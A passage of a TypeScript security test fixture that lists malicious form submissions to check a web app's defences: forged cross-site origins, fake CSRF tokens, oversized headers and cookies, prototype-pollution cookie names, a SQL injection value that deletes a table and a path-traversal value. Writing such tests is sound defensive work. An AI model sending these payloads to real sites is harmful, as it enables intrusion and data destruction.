  uploadTokens('an empty ticket', ''),
  uploadTokens('the word null as ticket', 'null'),
  uploadTokens('thirty tickets', ...Array.from({ length: 30 }, () => randomUUID())),
  uploadTokens('a digest as ticket', createHash('sha256').update('x').digest('hex')),
  headed('a form of another site', { origin: 'https://evil.example' }),
  headed('a form of nowhere', { origin: 'null' }),
  headed('a form of a host that begins like ours', { origin: 'http://localhost:3000.evil.example' }),
  headed('a form of a host that ends like ours', { origin: 'http://evil-localhost:3000' }),
  headed('a form of another port', { origin: 'http://localhost:3001' }),
  headed('a form of somebody at our host', { origin: 'http://localhost:3000@evil.example' }),
  headed('an origin that is none', { origin: 'localhost:3000' }),
  headed('a form that a browser calls foreign', { 'sec-fetch-site': 'cross-site' }),
  headed('a foreign form with a good word', {
    origin: 'https://evil.example',
    'sec-fetch-site': 'same-origin',
  }),
  headed('a script without proof', { accept: 'application/json' }),
  headed('a script with a proof that was made up', {
    accept: 'application/json',
    'csrf-token': `${'a'.repeat(16)}.${'b'.repeat(43)}`,
  }),
  headed('a form that says to be another method', { 'x-http-method-override': 'DELETE' }, STORED),
  headed('a language of 4 KB', { 'accept-language': 'x'.repeat(4000) }, STORED),
  headed('a browser of 8 KB', { 'user-agent': `<script>${'x'.repeat(8000)}` }, STORED),
  headed('a length that is none', { 'content-length': '-1' }, STORED),
  headed('a length of a terabyte', { 'content-length': '1000000000000' }),
  cookied('a cookie of 8 KB', { a: 'x'.repeat(8000) }),
  cookied(
    'a thousand cookies',
    many(500, (index) => `c${index}`),
  ),
  cookied('a flash message that was made up', { kovina_submission: 'a'.repeat(64) }),
  cookied('a flash message that is too long', { kovina_submission: 'a'.repeat(4000) }),
  cookied('a flash message of SQL', { kovina_submission: "'; delete from form_memories; --" }),
  cookied('a flash message that is no escape', { kovina_submission: '%E0%A4%A' }),
  cookied('a cookie of a strange name', { __proto__x: '1', constructor: '1' }),
  cookied('a language cookie that is none', { i18n_redirected: '../../etc' }),
]

/** Each row is a different attack. */
export const MALICIOUS_FORMS: MaliciousForm[] = [
  ...COMMANDS,
  ...UNSEEN,
  ...ADDRESSES,
  ...SIZES,
  ...NAMES,
  ...CHOICES,
  ...MULTIPART,
  ...TYPES,
  ...FILES,
  ...HEADS,
]
